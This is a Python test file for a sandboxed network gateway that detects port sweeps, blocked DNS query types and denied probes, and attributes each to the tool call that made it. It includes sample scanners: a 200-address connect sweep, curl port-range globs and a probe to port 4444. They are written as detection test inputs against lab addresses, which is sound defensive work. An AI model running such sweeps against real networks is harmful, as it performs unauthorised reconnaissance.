def test_dns_case_id_and_qtype_are_not_forwarded(lab: Lab,
                                                 make_session: Callable[..., Session]) -> None:
    session = make_session(LAB_POLICY, lab=True)
    session.write_file("/workspace/dns.py", DNS_CLIENT)
    start = len(lab.dns_log())
    r = session.exec(["python3", "/workspace/dns.py", "shapes"], call_id="shapes")
    assert r.stdout.split() == ["id-ok", "rcode=0", "id-ok", "rcode=5"], r.stdout
    seen = lab.dns_log()[start:]
    assert seen and all(line.split()[0] == "allowed.lab.test" for line in seen)
    assert not any(" TXT " in line for line in seen)
    txt = wait_events(session, EventKind.DNS_QUERY, lambda e: e.get("dns.type") == "TXT")
    assert txt and txt[0].get("dns.rule") == "gateway.dns_qtype"


# -- 4/5. probes are verdicts, attributed -----------------------------------------------

SWEEP = r"""
import select, socket
socks = []
for i in range(200):
    s = socket.socket(); s.setblocking(False)
    s.connect_ex(("10.%d.%d.1" % (i // 50, i % 50), 22 + i % 4))
    socks.append(s)
select.select([], socks, [], 3)
print(len(socks))
"""


def test_a_200_probe_sweep_is_one_recon_verdict_charged_to_its_call(
        lab: Lab, make_session: Callable[..., Session]) -> None:
    session = make_session(LAB_POLICY, lab=True)
    session.write_file("/workspace/sweep.py", SWEEP)
    session.exec("true", call_id="before")
    session.exec(["python3", "/workspace/sweep.py"], call_id="sweep")

    def seen() -> list[Event]:
        return [e for e in session.events if e.kind is EventKind.NET_CONNECT
                and str(e.get("net.dst_ip", "")).startswith("10.")]

    # the gateway's records of the probes may still be arriving on a slow machine
    wait_for(lambda: len(seen()) >= 100)
    probes = seen()
    # the verdict (high: kill) ends the scanner mid-sweep; probes whose connection it
    # reset before the gateway accepted them are gone for good
    assert len(probes) >= 100
    # charged to the call by the socket's cgroup, even for sockets whose process the
    # verdict had already killed
    assert [e.call_id for e in probes if e.call_id != "sweep"] == []
    assert all(e.get("net.rule") == "gateway.private" for e in probes)
    scans = [v for v in session.verdicts if v.rule_id == "recon.network_scan"]
    assert len(scans) == 1 and scans[0].call_id == "sweep"


ALLOWED_IP = host("allowed").ip


@pytest.mark.parametrize("target", ["denied-address", "allowed-host"])
def test_a_curl_port_glob_is_one_recon_verdict_charged_to_its_call(
        lab: Lab, make_session: Callable[..., Session], target: str) -> None:
    """``curl http://HOST:[1-40]/``: a port sweep written as a URL glob, by behaviour at
    the gateway (no rule pack reads the command here). Over an address nothing allows,
    each connect is refused; over an allowed host (a CIDR entry, any port), each is
    allowed and the host refuses it: both are a sweep, charged to the call."""
    if target == "denied-address":
        session = make_session(LAB_POLICY, lab=True)
        url, ip = "http://203.0.113.5:[1-40]/", "203.0.113.5"
    else:
        session = make_session(policy({"cidr": f"{ALLOWED_IP}/32"}, name="cidr"), lab=True)
        url, ip = f"http://{ALLOWED_IP}:[1001-1040]/", ALLOWED_IP
    session.exec(["curl", "-s", "-m", "2", "-o", "/dev/null", url], call_id="glob",
                 timeout=120)
    scans = wait_events_verdict(session, "recon.network_scan")
    assert len(scans) == 1 and scans[0].call_id == "glob"
    probes = [e for e in session.events if e.get("net.dst_ip") == ip
              and e.kind in (EventKind.NET_CONNECT, EventKind.NET_CLOSE)]
    assert probes and all(e.call_id == "glob" for e in probes)
    if target == "allowed-host":
        assert any(e.get("net.upstream_failed") for e in probes)


def test_honest_requests_over_a_url_glob_are_no_sweep(
        lab: Lab, make_session: Callable[..., Session]) -> None:
    """Thirty pages of one allowed site by a URL glob, and one closed port retried:
    no recon verdict."""
    session = make_session(policy({"cidr": f"{ALLOWED_IP}/32"}, name="cidr"), lab=True)
    r = session.exec(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code} ",
                      "http://allowed.lab.test/page[1-30]"], call_id="pages", timeout=120)
    assert r.stdout.split() and "000" not in r.stdout.split(), r.stdout
    session.exec(["curl", "-s", "-m", "2", "--retry", "3", "--retry-connrefused",
                  "--retry-delay", "0", "-o", "/dev/null", f"http://{ALLOWED_IP}:1001/"],
                 call_id="retry", timeout=120)
    failed = wait_events(session, EventKind.NET_CLOSE,
                         lambda e: bool(e.get("net.upstream_failed")), wait=30)
    assert failed  # the retried port was seen, and counted once
    session.exec("true", call_id="after")  # a call boundary: detectors have run
    assert "recon.network_scan" not in rules(session)


def wait_events_verdict(session: Session, rule: str, wait: float = 30.0) -> list[Any]:
    """The session's verdicts of ``rule``, waited for."""
    deadline = time.monotonic() + wait
    while True:
        found = [v for v in list(session.verdicts) if v.rule_id == rule]
        if found or time.monotonic() >= deadline:
            return found
        time.sleep(0.05)


def test_drops_and_v4_mapped_connections_are_attributed(
        lab: Lab, make_session: Callable[..., Session]) -> None:
    session = make_session(LAB_POLICY, lab=True)
    script = r"""
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"x", ("203.0.113.9", 9999))
except OSError:
    pass
s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
s.connect(("::ffff:203.0.113.80", 80))
s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.lab.test\r\nConnection: close\r\n\r\n")
print(s.recv(100).split(b"\r\n")[0].decode())
"""
    session.write_file("/workspace/mapped.py", script)
    r = session.exec(["python3", "/workspace/mapped.py"], call_id="mapped")
    assert r.stdout.strip() == "HTTP/1.1 200 OK", r.stderr
    connect = wait_events(session, EventKind.NET_CONNECT,
                          lambda e: e.get("net.dst_ip") == "203.0.113.80")
    assert connect and connect[0].call_id == "mapped" and connect[0].pid is not None
    drop = wait_events(session, EventKind.NET_DROP,
                       lambda e: e.get("net.dst_ip") == "203.0.113.9", wait=6)
    assert drop and drop[0].get("net.dst_port") == 9999 and drop[0].call_id == "mapped"


def test_a_no_data_probe_is_recorded_even_if_the_session_closes_at_once(
        lab: Lab, make_session: Callable[..., Session]) -> None:
    session = make_session(LAB_POLICY, lab=True)
    session.exec("python3 -c \"import socket,time; s=socket.socket(); "
                 "s.connect_ex(('203.0.113.99', 4444)); open('/workspace/on', 'w').close(); "
                 "time.sleep(5)\" >/dev/null 2>&1 &", call_id="probe")
    deadline = time.monotonic() + 5
    while not (session.workspace / "on").exists() and time.monotonic() < deadline:
        time.sleep(0.01)
    session.close()  # at once: the gateway is still reading the probe for its record
    probes = [e for e in session.events if e.kind is EventKind.NET_CONNECT
              and e.get("net.dst_ip") == "203.0.113.99"]
    assert probes and probes[0].get("net.decision") == "deny"
    assert probes[0].get("net.dst_port") == 4444


# -- honest traffic is untouched ----------------------------------------------------------

HONEST = r"""
import json, os, socket, ssl, sys
# a kept-alive HTTP client: many requests on one connection
s = socket.create_connection(("allowed.lab.test", 80), timeout=5)
for i in range(20):
    s.sendall(b"GET /%d HTTP/1.1\r\nHost: allowed.lab.test\r\n\r\n" % i)
    head = s.recv(4096)
    assert head.startswith(b"HTTP/1.1 200"), head
s.sendall(b'POST /api HTTP/1.1\r\nHost: allowed.lab.test\r\nContent-Length: 52\r\n\r\n'
          b'{"method": "submit", "params": {"form": "feedback"}}')
assert s.recv(4096).startswith(b"HTTP/1.1 200")
# a websocket client talking JSON-RPC-ish messages both ways
w = socket.create_connection(("allowed.lab.test", 80), timeout=5)
w.sendall(b"GET /ws HTTP/1.1\r\nHost: allowed.lab.test\r\nUpgrade: websocket\r\n"
          b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
          b"Sec-WebSocket-Version: 13\r\n\r\n")
assert b" 101 " in w.recv(4096)
for i in range(30):
    msg = json.dumps({"method": "chat.send", "params": {"text": "hello %d" % i}}).encode()
    mask = os.urandom(4)
    w.sendall(bytes([0x81, 0x80 | len(msg)]) + mask
              + bytes(b ^ mask[j % 4] for j, b in enumerate(msg)))
    frame = w.recv(4096)
    assert frame[2:] == msg, frame
# a long download over HTTPS
ctx = ssl.create_default_context(cafile="/workspace/ca.pem")
t = ctx.wrap_socket(socket.create_connection(("allowed.lab.test", 443)),
                    server_hostname="allowed.lab.test")
t.sendall(b"GET /bytes/20000000 HTTP/1.1\r\nHost: allowed.lab.test\r\nConnection: close\r\n\r\n")
total = 0
while True:
    chunk = t.recv(1 << 16)
    if not chunk:
        break
    total += len(chunk)
print("ok", total > 20000000)
"""


def test_honest_traffic_is_untouched(lab: Lab, make_session: Callable[..., Session]) -> None:
    from bastion.policy import Policy

    session = make_session(Policy.from_dict({**LAB_POLICY, "rules": {}}), lab=True)
    session.write_file("/workspace/ca.pem", lab_trust(lab))
    session.write_file("/workspace/honest.py", HONEST)
    r = session.exec(["python3", "/workspace/honest.py"], call_id="honest", timeout=120)
    assert r.stdout.strip() == "ok True", r.stdout + r.stderr
    assert session.verdicts == [] and r.verdicts == []
    assert not any(e.get("net.cut") for e in session.events
                   if e.kind in (EventKind.NET_FLOW, EventKind.NET_CLOSE))
